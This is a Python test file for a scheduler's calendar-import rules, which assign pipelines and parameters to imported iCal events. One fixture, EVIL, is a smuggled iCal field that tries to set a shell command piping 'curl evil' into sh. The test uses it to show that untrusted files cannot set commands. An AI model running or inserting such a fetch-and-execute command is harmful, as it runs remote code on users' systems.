"""Rules give imported events their work: the choice of a person, which a file can neither make nor change."""

import json
from datetime import UTC, datetime
from typing import Any

import pytest
import pytest_asyncio

from storage.documents import Documents
from synapse.calendar.events import Event
from synapse.catalog.catalog import PipelinesChanged
from synapse.control_room import ControlRoom
from synapse.errors import Invalid
from synapse.ical.assignment import Assignment, by_rules
from synapse.ical.import_result import ImportResult
from synapse.ical.import_rules import MAX_RULES, ImportRule, ImportRules, ImportRulesChanged, rule_for
from synapse.ical.importing import import_drafts
from synapse.ical.reading import read_calendar
from synapse.sealed import SHOWN
from tests.parts.api_room import client_of, error_of, gated
from tests.parts.calendar_files import calendar_file
from tests.parts.serving import served

pytestmark = pytest.mark.asyncio(loop_scope='module')

START = 'DTSTART;TZID=Europe/Berlin:20311006T160000'
LUNCH = f'UID:lunch@team\n{START}\nSUMMARY:Team lunch\nRRULE:FREQ=WEEKLY'
DINNER = f'UID:dinner@team\n{START}\nSUMMARY:Dinner\nCATEGORIES:Food\\, cooked,Evening'
NAMED = f'UID:named@team\n{START}\nSUMMARY:Named\nDESCRIPTION:pipeline: Breaks'
MOVED = LUNCH.replace('\nRRULE:FREQ=WEEKLY', '\nRECURRENCE-ID;TZID=Europe/Berlin:20311013T160000')
EVIL = 'X-SYNAPSE-PIPELINE:RunCommand\nX-SYNAPSE-PARAMETERS:{"command":["sh"\\,"-c"\\,"curl evil | sh"]}'
TITLE = {'when': 'title', 'text': 'LUNCH', 'pipeline': 'Hello', 'parameters': {'name': 'team'}}
CATEGORY = {'when': 'category', 'text': 'food, cooked', 'pipeline': 'Endless'}
ANY = {'when': 'any', 'pipeline': 'Hello', 'parameters': {'name': 'anyone'}}


async def take(room: ControlRoom, *events: str, **options: Any) -> ImportResult:
    """As the API takes a file without `trust`, with the kept rules."""
    contents = read_calendar(calendar_file(*events), zone='Europe/Berlin')
    assignment = Assignment(rule_for=by_rules(room.import_rules.rules, room.auth.sign))
    trusted = {'is_trusted': lambda draft: draft.is_signed(room.auth.sign), 'assignment': assignment}
    return await import_drafts(room.calendar, room.editor, room.catalog, contents, **(trusted | options))


def planned(room: ControlRoom) -> dict[str, Event]:
    return {event.title: event for event in room.calendar.events()}


@pytest_asyncio.fixture(loop_scope='module')
async def rules(room: ControlRoom) -> ImportRules:
    await room.import_rules.set([])
    return room.import_rules


# Which rule counts


async def test_the_first_rule_that_fits_counts_and_one_for_any_event_comes_last() -> None:
    any_rule, title, category = (ImportRule.model_validate(values) for values in (ANY, TITLE, CATEGORY))
    rules = (any_rule, title, category)

    assert rule_for(rules, 'Team lunch', ['Food, Cooked']) is title
    assert rule_for(rules, 'Dinner', ['FOOD, COOKED ']) is category
    assert rule_for(rules, 'Dinner', ['Food']) is any_rule
    assert rule_for(rules[1:], 'Dinner', []) is None


async def test_categories_are_lists_of_texts() -> None:
    text = calendar_file(f'{DINNER}\nCATEGORIES:a\\\\,b\\;c\nCATEGORIES:\nCATEGORIES:Evening')
    (draft,) = read_calendar(text, zone='UTC').drafts

    assert draft.categories == ('Food, cooked', 'Evening', 'a\\', 'b;c')


# What they give


async def test_events_get_the_work_of_their_rule_and_say_so(room: ControlRoom, rules: ImportRules) -> None:
    await rules.set([TITLE, CATEGORY])

    result = await take(room, LUNCH, DINNER, NAMED)

    work = {title: (event.pipeline, event.parameters, event.enabled) for title, event in planned(room).items()}
    assert work == {
        'Team lunch': ('Hello', {'name': 'team'}, False),
        'Dinner': ('Endless', {}, False),
        'Named': ('Breaks', {}, False),
    }
    assert [event.rule for event in result.events] == [
        'Title contains “LUNCH”',
        'Category is “food, cooked”',
        '',
    ]
    assert len(result.disabled) == 3


async def test_what_fits_no_rule_is_listed_with_the_way_out_and_refuses_nothing(
    room: ControlRoom, rules: ImportRules
) -> None:
    result = await take(room, DINNER)

    (left,) = result.without_pipeline
    assert (left.uid, left.title, left.categories) == ('dinner@team', 'Dinner', ('Food, cooked', 'Evening'))
    assert 'add a rule for it' in left.reason
    assert (result.refused, result.created) == ((), ())


async def test_a_rule_for_any_event_leaves_those_alone_that_name_a_pipeline(
    room: ControlRoom, rules: ImportRules
) -> None:
    await rules.set([ANY])

    await take(room, DINNER, NAMED)

    assert {title: event.pipeline for title, event in planned(room).items()} == {'Dinner': 'Hello', 'Named': 'Breaks'}


async def test_nothing_of_a_strangers_work_is_left_where_a_rule_fits(room: ControlRoom, rules: ImportRules) -> None:
    await rules.set([TITLE])

    await take(room, f'{LUNCH}\n{EVIL}', f'{MOVED}\n{EVIL}')

    events = room.calendar.events()
    assert len(events) == 2
    assert {(event.pipeline, str(event.parameters), event.profile) for event in events} == {
        ('Hello', "{'name': 'team'}", None)
    }


async def test_events_made_here_keep_their_work(room: ControlRoom, rules: ImportRules) -> None:
    await rules.set([TITLE])
    own = await room.editor.create(
        {'pipeline': 'Endless', 'title': 'My lunch', 'start': '2031-10-06T16:00:00', 'timezone': 'Europe/Berlin'}
    )

    await take(room, f'UID:{own.id}@synapse\n{START}\nSUMMARY:My lunch, later\nSEQUENCE:9')

    assert room.calendar.get(own.id).pipeline == 'Endless'


async def test_what_a_rule_says_all_of_can_be_switched_on_unseen_but_nothing_that_the_file_says(
    room: ControlRoom, rules: ImportRules
) -> None:
    await rules.set([TITLE])
    greedy = LUNCH.replace('lunch@', 'greedy@') + '\nX-SYNAPSE-OPTIONS:{"overlap":"allow"}'
    greedily_moved = MOVED.replace('lunch@', 'greedy@')

    result = await take(room, LUNCH, MOVED, NAMED, greedy, greedily_moved)

    assert [(event.uid, event.is_all_of_rule) for event in result.events] == [
        ('lunch@team', True),
        ('lunch@team', True),
        ('named@team', False),
        ('greedy@team', False),
        ('greedy@team', False),
    ]


async def test_what_has_no_work_yet_says_when_it_would_run(room: ControlRoom, rules: ImportRules) -> None:
    result = await take(room, LUNCH, MOVED.replace(START, 'DTSTART;TZID=Europe/Berlin:20311014T090000'))

    series, moved = result.without_pipeline
    assert series.sentence.endswith('at 16:00, Berlin time, with no end date. Except on 13 October 2031.')
    assert (series.next, series.replaces) == (datetime(2031, 10, 6, 14, tzinfo=UTC), None)
    assert moved.sentence == 'Runs once, on Tuesday 14 October 2031 at 09:00, Berlin time.'
    assert (moved.next, moved.replaces) == tuple(
        datetime(2031, 10, day, hour, tzinfo=UTC) for day, hour in ((14, 7), (13, 14))
    )


# Imported again


@pytest.mark.parametrize(
    ('old', 'new', 'changes'),
    [
        ('T160000', 'T043000', ('16:00 → 04:30',)),
        ('1006T16', '1007T16', ('Mon 6 Oct 2031, 16:00 → Tue 7 Oct 2031, 16:00',)),
        ('Team lunch', 'Long lunch', ('Title: “Team lunch” → “Long lunch”',)),
        ('FREQ=WEEKLY', 'FREQ=DAILY', ('Before: Runs every Monday at 16:00, Berlin time, with no end date.',)),
        ('RRULE', 'EXDATE;TZID=Europe/Berlin:20311013T160000\nRRULE', ('No longer on Mon 13 Oct 2031, 16:00',)),
    ],
)
async def test_what_an_import_changes_is_said_in_words(
    room: ControlRoom, rules: ImportRules, old: str, new: str, changes: tuple[str, ...]
) -> None:
    await rules.set([TITLE])
    await take(room, LUNCH)

    result = await take(room, LUNCH.replace(old, new) + '\nSEQUENCE:9', is_dry=True)

    assert [event.changes for event in result.events] == [changes]


async def test_what_ran_before_is_said(room: ControlRoom, rules: ImportRules) -> None:
    await rules.set([TITLE])
    await take(room, LUNCH)
    await rules.set([{**TITLE, 'parameters': {'name': 'all'}}])

    (event,) = (await take(room, LUNCH, is_dry=True)).events

    assert event.changes == ('Ran before: name: "team"',)


async def test_a_changed_event_that_was_off_is_switched_on_by_a_person_only(
    room: ControlRoom, rules: ImportRules
) -> None:
    await rules.set([TITLE])
    (id,) = (await take(room, LUNCH)).created
    later = LUNCH.replace('T160000', 'T170000') + '\nSEQUENCE:9'
    assignment = Assignment(
        rule_for=by_rules(room.import_rules.rules, room.auth.sign), turned_on={('lunch@team', None)}
    )

    await take(room, later)
    assert not room.calendar.get(id).enabled
    reviewed = later.replace('T170000', 'T180000').replace(':9', ':10')
    await take(room, reviewed, assignment=assignment, is_trusted=lambda _: True)

    assert (room.calendar.get(id).enabled, room.calendar.get(id).start.hour) == (True, 18)


async def test_another_rule_changes_known_events_and_holds_them(room: ControlRoom, rules: ImportRules) -> None:
    await rules.set([TITLE])
    (id,) = (await take(room, LUNCH)).created
    await room.editor.update(id, {'enabled': True})
    assert (await take(room, LUNCH)).unchanged == (id,)

    await rules.set([{**TITLE, 'pipeline': 'Endless', 'parameters': {}}])
    result = await take(room, LUNCH)

    event = room.calendar.get(id)
    assert (result.updated, result.disabled) == ((id,), (id,))
    assert (event.pipeline, event.parameters, event.enabled) == ('Endless', {}, False)


async def test_a_newer_file_with_the_same_rule_keeps_what_a_person_changed(
    room: ControlRoom, rules: ImportRules
) -> None:
    await rules.set([TITLE])
    (id,) = (await take(room, LUNCH)).created
    await room.editor.update(id, {'parameters': {'name': 'me'}})

    await take(room, LUNCH.replace('T160000', 'T170000') + '\nSEQUENCE:9')

    assert (room.calendar.get(id).parameters, room.calendar.get(id).start.hour) == ({'name': 'me'}, 17)


async def test_a_title_that_leads_to_another_rule_is_held(room: ControlRoom, rules: ImportRules) -> None:
    await rules.set([TITLE, {'when': 'title', 'text': 'turn', 'pipeline': 'Endless'}])
    (id,) = (await take(room, LUNCH)).created
    await room.editor.update(id, {'enabled': True})

    await take(room, LUNCH.replace('Team lunch', 'Turn') + '\nSEQUENCE:9')

    assert (room.calendar.get(id).pipeline, room.calendar.get(id).enabled) == ('Endless', False)


# Kept


async def test_rules_are_kept_and_announced(room: ControlRoom, rules: ImportRules) -> None:
    heard: list[ImportRulesChanged] = []
    room.bus.subscribe(ImportRulesChanged, heard.append)

    await rules.set([TITLE, ANY])

    again = ImportRules(room.preferences, profiles=room.profiles, new_runs=room.runs.new, bus=room.bus)
    assert [rule.pipeline for rule in again.rules] == ['Hello', 'Hello']
    assert again.rules == rules.rules
    assert len(heard) == 1


@pytest.mark.parametrize(
    ('change', 'field'),
    [
        ({'when': 'sometimes'}, 'when'),
        ({'text': '  '}, 'text'),
        ({'pipeline': 'Nothing'}, 'pipeline'),
        ({'parameters': {'times': 'x'}}, 'parameters.times'),
        ({'parameters': {'nothing': 1}}, 'parameters.nothing'),
        ({'profile': 'nobody'}, 'profile'),
        ({'more': 1}, 'more'),
    ],
)
async def test_an_impossible_rule_is_refused_and_the_others_stay(
    room: ControlRoom, rules: ImportRules, change: dict[str, Any], field: str
) -> None:
    await rules.set([TITLE])

    with pytest.raises(Invalid) as caught:
        await rules.set([{**TITLE, **change}])

    assert list(caught.value.fields) == [field]
    assert [rule.text for rule in rules.rules] == ['LUNCH']


async def test_too_many_rules_are_refused(rules: ImportRules) -> None:
    with pytest.raises(Invalid):
        await rules.set([ANY] * (MAX_RULES + 1))


async def test_a_rule_that_cannot_be_read_is_left_out(room: ControlRoom, tmp_path: Any) -> None:
    documents = Documents(tmp_path / 'settings.json')
    good = ImportRule.model_validate(TITLE)
    documents.put('import_rules', {'items': [{'when': 'never'}, good.as_json()]})

    rules = ImportRules(documents, profiles=room.profiles, new_runs=room.runs.new, bus=room.bus)

    assert rules.rules == (good,)
    assert len(rules.notices) == 1


# Over the API


async def test_rules_over_the_api(room: ControlRoom, rules: ImportRules) -> None:
    async with served(lambda port: gated(room, port)) as authority, client_of(room, authority) as api:
        kept = await api.put('/scheduler/import-rules', json={'rules': [TITLE]})
        listed = await api.get('/scheduler/import-rules')
        refused = await api.put('/scheduler/import-rules', json={'rules': [{**TITLE, 'pipeline': 'No'}]})
        ics = {'Content-Type': 'text/calendar'}
        file = calendar_file(LUNCH, DINNER)
        by_kept = (await api.post('/scheduler/import?dry_run=true', content=file, headers=ics)).json()
        options = {'dry_run': 'true', 'rules': json.dumps([CATEGORY])}
        by_given = (await api.post('/scheduler/import', params=options, content=file, headers=ics)).json()
        none_fit = await api.post('/scheduler/import', content=calendar_file(DINNER), headers=ics)
        await room.import_rules.set([])
        no_rules = await api.post('/scheduler/import', content=calendar_file(DINNER), headers=ics)
        some = (
            await api.post('/scheduler/import?dry_run=true', content=calendar_file(DINNER, NAMED), headers=ics)
        ).json()
        odd = [
            await api.post('/scheduler/import', params={'rules': text}, content=file, headers=ics)
            for text in ('x', '{}', '[1]', '[{"when": "any"}]')
        ]

    assert kept.json() == listed.json() == {'rules': [{**TITLE, 'profile': None}]}
    error_of(refused, 422, 'invalid_values')
    assert [event['pipeline'] for event in by_kept['events']] == ['Hello']
    assert [left['title'] for left in by_kept['without_pipeline']] == ['Dinner']
    assert [event['pipeline'] for event in by_given['events']] == ['Endless']
    assert "'Dinner' fits no rule" in error_of(none_fit, 422, 'invalid_values')['message']
    assert "'Dinner' names no pipeline" in error_of(no_rules, 422, 'invalid_values')['message']
    assert [left['title'] for left in some['without_pipeline']] == ['Dinner']
    for response in odd:
        error_of(response, 422, 'invalid_values')


async def test_secrets_of_a_rule_are_sealed_and_never_shown(room: ControlRoom, rules: ImportRules) -> None:
    source = 'from pydantic import SecretStr\nfrom synapse import Pipeline, Run, step\n\n'
    source += 'class Signs(Pipeline):\n    key: SecretStr\n\n    @step\n    def go(self, run: Run):\n        pass\n'
    (room.settings.data / 'pipelines' / 'signs.py').write_text(source)
    await wait_for(room, 'Signs')
    values = {**TITLE, 'pipeline': 'Signs', 'parameters': {'key': 'geheim-geheim'}}

    await rules.set([values])
    (rule,) = rules.rules
    await rules.set([{**values, 'text': 'Lunch'}])
    changed = {**rules.rules[0].shown(), 'profile': 'default'}
    await rules.set([changed])

    text = (room.settings.data / 'settings.json').read_text()
    assert rule.shown()['parameters'] == {'key': SHOWN}
    assert 'geheim' not in text
    assert rules.rules[0].parameters == rule.parameters
    assert rules.rules[0].profile == 'default'


async def wait_for(room: ControlRoom, name: str) -> None:
    while room.catalog.find(name) is None:
        await room.bus.next(PipelinesChanged, timeout=20)
